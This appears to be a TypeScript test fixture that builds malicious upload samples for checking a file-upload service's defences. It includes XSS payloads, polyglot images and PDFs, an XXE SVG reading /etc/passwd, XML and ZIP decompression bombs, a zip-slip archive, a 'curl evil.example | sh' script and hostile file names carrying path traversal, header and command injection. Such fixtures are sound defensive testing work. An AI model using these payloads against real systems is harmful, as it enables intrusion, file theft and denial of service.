import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { aDocx, aPdf, aZip } from '../../server/platform/file-kinds/sample.ts'
import { aPicture } from '../../server/core/uploads/sample.ts'

const script = '<script>window.attacked=1</script><img src=x onerror="window.attacked=1">'
const text = (content: string) => Buffer.from(content, 'latin1')

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([text(type), data])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.length, 0)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([frame.subarray(0, 4), body, sum])
}

/** Returns an all-black PNG of a few kilobytes with `side` by `side` pixels. */
export function aPictureBomb(side: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 1
  const rows = Buffer.alloc(Math.min((Math.ceil(side / 8) + 1) * side, 2 ** 24))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Returns a ZIP of a few kilobytes with an entry that claims to hold four gigabytes of zeros. */
function aZipBomb(): Buffer {
  const bytes = aZip({ 'zeros.bin': 'x'.repeat(50) })
  const packed = deflateRawSync(Buffer.alloc(2 ** 24), { level: 9 })
  for (const [sign, sizeAt] of [
    ['PK\x03\x04', 22],
    ['PK\x01\x02', 24],
  ] as const) {
    const at = bytes.indexOf(text(sign))
    bytes.writeUInt16LE(8, at + (sizeAt === 22 ? 8 : 10))
    bytes.writeUInt32LE(0xffff_fff0, at + sizeAt)
  }
  return Buffer.concat([packed.subarray(0, 0), bytes])
}

const pdfWithScript = text(
  '%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);window.attacked=1)>>>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(javascript:window.attacked=1)>>>>>>\nendobj\ntrailer\n<</Size 4/Root 1 0 R>>\n%%EOF\n',
)

/** Files with a false type, files that are valid as two types, and files that expand to a multiple of their size. */
export const evilFiles: Record<string, Buffer> = {
  'a page': text(`<!doctype html><html><body>${script}</body></html>`),
  'a page behind blanks': text(`\r\n\t  \uFEFF<html>${script}`),
  'a drawing with a script': text(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked=1">${script}</svg>`,
  ),
  'a drawing that reads files': text(
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text><image href="file:///etc/passwd"/></svg>',
  ),
  'a script': text('window.attacked=1'),
  'a style sheet': text('@import "//evil.example";*{background:url(//evil.example)}'),
  'XML that grows': text(
    `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'bcdefghi'
      .split('')
      .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'[at]};`.repeat(10)}">`)
      .join('')}]><x>&i;</x>`,
  ),
  'a picture that is a page': Buffer.concat([aPicture, text(script)]),
  'a picture with a page in a comment': Buffer.concat([
    aPicture.subarray(0, 33),
    chunk('tEXt', text(`Comment\0${script}`)),
    aPicture.subarray(33),
  ]),
  'a GIF that is a script': text('GIF89a/*\x01\x00\x01\x00*/=1;window.attacked=1;//'),
  'a JPEG that is a page': Buffer.concat([
    Buffer.from('ffd8ffe1', 'hex'),
    text(`\0\xffExif\0\0${script}`),
    Buffer.from('ffd9', 'hex'),
  ]),
  'a WebP that is a page': text(`RIFF\xff\0\0\0WEBP${script}`),
  'a PDF with a script': pdfWithScript,
  'a PDF that is a page': Buffer.concat([aPdf(), text(script)]),
  'a page that is a PDF': text(`<html>${script}\n%PDF-1.7\n%%EOF`),
  'a PDF with an archive behind it': Buffer.concat([aPdf(), aZip({ 'a.html': script })]),
  'an archive that grows': aZipBomb(),
  'an archive that leads out': aZip({
    '../../../../etc/cron.d/evil': 'x',
    '/etc/passwd': 'y',
    'a\\..\\b': 'z',
  }),
  'a document with macros': aZip({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': '<w:document/>',
    'word/vbaProject.bin': 'x',
  }),
  'a document that is an archive of pages': Buffer.concat([aDocx(), text(script)]),
  'a program': text('MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode'),
  'a shell script': text('#!/bin/sh\ncurl evil.example | sh\n'),
  'settings of a web server': text('AddType text/html .png\n'),
  'a picture of nine hundred megapixels': aPictureBomb(30_000),
  'half a picture': aPicture.subarray(0, 20),
}

/** File names that have broken programs before. */
export const evilNames = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\boot.ini',
  '....//....//etc/passwd',
  '%2e%2e%2fetc%2fpasswd',
  'a/../../b.png',
  '.htaccess',
  '.',
  '..',
  '...',
  '',
  ' ',
  'CON.png',
  'nul',
  'a.png:Zone.Identifier',
  'a.png::$DATA',
  'photo.png.html',
  'photo.html;.png',
  'photo.svg',
  'photo.png\u0000.html',
  'photo.html%00.png',
  'photo.php',
  'photo.p\u0068p.png',
  'photo.png ',
  'photo.png.',
  'photo\u202Egnp.html',
  '\u202Efdp.exe',
  'a\u200Bb.png',
  '\uFEFFa.png',
  'a\u2028b.png',
  'a\r\nContent-Type: text/html\r\n\r\n<script>window.attacked=1</script>.png',
  'a\nb.png',
  'a\tb.png',
  'a\u0085b.png',
  '"; filename="evil.html',
  "a'; filename*=UTF-8''evil.html",
  'a";b=c.png',
  '<img src=x onerror=window.attacked=1>.png',
  '=cmd|calc.csv',
  '${7*7}.png',
  '{{7*7}}.png',
  '`id`.png',
  '$(id).png',
  '-rf.png',
  'a|b.png',
  'x'.repeat(3000) + '.png',
  '🙂'.repeat(300) + '.png',
  'a.' + 'b'.repeat(300),
  '\ud800.png',
  'naïve 日本.png',
]
